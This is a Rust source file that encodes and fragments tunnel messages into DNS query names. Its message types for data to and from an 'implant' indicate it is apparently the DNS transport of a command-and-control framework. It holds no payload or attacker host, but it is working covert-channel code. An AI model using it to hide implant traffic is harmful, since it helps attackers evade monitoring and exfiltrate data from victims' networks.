//! Framing of tunnel messages into DNS names.
//!
//! Every query carries one serialized [`TunnelMessage`], encoded with a
//! DNS-safe alphabet and split into `.`-separated labels under the parent
//! zone. The framing record is variable-length (tagged, length-delimited),
//! so fragmentation is adaptive: bytes are shaved onto each fragment until
//! the encoded form is tight against the per-query budget.

use crate::encoders::Encoder;
use crate::error::TunnelError;
use prost::Message;
use tracing::trace;

/// Extra headroom reserved for the framing record's own metadata when
/// guessing a fragment size. Worst-case metadata is 18 bytes.
const SHAVE_MARGIN: usize = 20;

/// The low 24 bits of every message id carry the session id.
pub(crate) const SESSION_ID_BITMASK: u32 = 0x00ff_ffff;

/// Combines a fragment sequence number with the 24-bit session id.
pub(crate) fn msg_id(session_id: u32, seq: u32) -> u32 {
    (seq << 24) | session_id
}

/// Maximum length of a single DNS label.
const MAX_LABEL_LEN: usize = 63;

/// Maximum length of a fully-qualified domain name.
const MAX_NAME_LEN: usize = 254;

/// The framing record wrapped around every protocol message.
#[derive(Clone, PartialEq, Message)]
pub struct TunnelMessage {
    /// `(seq << 24) | session_id`, or the TOTP code during bootstrap.
    #[prost(uint32, tag = "1")]
    pub id: u32,
    #[prost(enumeration = "MessageKind", tag = "2")]
    pub kind: i32,
    /// Fragment ordinal (uplink) or absolute byte offset (downlink).
    #[prost(uint32, tag = "3")]
    pub start: u32,
    /// End byte offset (downlink only).
    #[prost(uint32, tag = "4")]
    pub stop: u32,
    /// Total payload size across all fragments.
    #[prost(uint32, tag = "5")]
    pub size: u32,
    #[prost(bytes = "vec", tag = "6")]
    pub data: Vec<u8>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, ::prost::Enumeration)]
#[repr(i32)]
pub enum MessageKind {
    Nop = 0,
    Totp = 1,
    Init = 2,
    Poll = 3,
    Manifest = 4,
    DataFromImplant = 5,
    DataToImplant = 6,
}

/// Splits encoded payloads into DNS names under a fixed parent zone.
pub struct Framer {
    parent: String,
    subdata_space: usize,
}

impl Framer {
    /// `parent` is stored with one leading dot stripped and exactly one
    /// trailing dot. The per-query character budget accounts for the dots
    /// inserted every 63 characters.
    pub fn new(parent: &str) -> Framer {
        let trimmed = parent.strip_prefix('.').unwrap_or(parent);
        let parent = format!("{}.", trimmed.trim_end_matches('.'));
        let free = MAX_NAME_LEN.saturating_sub(parent.len());
        Framer {
            parent,
            subdata_space: free - free / (MAX_LABEL_LEN + 1),
        }
    }

    pub fn parent(&self) -> &str {
        &self.parent
    }

    /// Maximum number of encoded characters usable per query.
    pub fn subdata_space(&self) -> usize {
        self.subdata_space
    }

    /// Splits `encoded` into labels of at most 63 characters and appends
    /// the parent zone.
    pub fn join_subdata(&self, encoded: &str) -> Result<String, TunnelError> {
        if self.subdata_space <= encoded.len() {
            return Err(TunnelError::MsgTooLong);
        }
        let mut labels = Vec::with_capacity(encoded.len() / MAX_LABEL_LEN + 1);
        let mut rest = encoded;
        while rest.len() > MAX_LABEL_LEN {
            let (chunk, tail) = rest.split_at(MAX_LABEL_LEN);
            labels.push(chunk);
            rest = tail;
        }
        if !rest.is_empty() {
            labels.push(rest);
        }
        // No leading dot when there is nothing to carry.
        let domain = if labels.is_empty() {
            self.parent.clone()
        } else {
            format!("{}.{}", labels.join("."), self.parent)
        };
        if domain.len() > MAX_NAME_LEN {
            return Err(TunnelError::MsgTooLong);
        }
        Ok(domain)
    }

    /// Fragments `data` into the minimum number of queries, each encoding
    /// to at most `subdata_space - 1` characters. `msg` supplies the id,
    /// kind, and size common to every fragment; each fragment's `start` is
    /// its ordinal. The record is variable-length, so the split starts from
    /// a conservative byte-count guess and then shaves one byte at a time
    /// until the encoded form is tight against the budget.
    pub fn split_buffer(
        &self,
        msg: &mut TunnelMessage,
        encoder: &dyn Encoder,
        data: &[u8],
    ) -> Result<Vec<String>, TunnelError> {
        let max_len = self.subdata_space;
        let guess = (max_len.saturating_sub(1) * 5 / 8).saturating_sub(SHAVE_MARGIN);

        let mut domains = Vec::new();
        let mut start = 0usize;
        let mut stop = 0usize;
        let mut index = 0u32;
        while stop < data.len() {
            msg.start = index;
            stop = usize::min(start + guess.max(1), data.len());

            msg.data = data[start..stop].to_vec();
            let mut encoded = encoder.encode(&msg.encode_to_vec());
            while encoded.len() >= max_len && stop > start + 1 {
                stop -= 1;
                msg.data = data[start..stop].to_vec();
                encoded = encoder.encode(&msg.encode_to_vec());
            }
            while stop < data.len() {
                msg.data = data[start..stop + 1].to_vec();
                let candidate = encoder.encode(&msg.encode_to_vec());
                if candidate.len() >= max_len {
                    break;
                }
                stop += 1;
                encoded = candidate;
            }
            trace!(
                fragment = index,
                start,
                stop,
                encoded_len = encoded.len(),
                "shaved fragment"
            );

            domains.push(self.join_subdata(&encoded)?);
            start = stop;
            index += 1;
        }
        Ok(domains)
    }
}
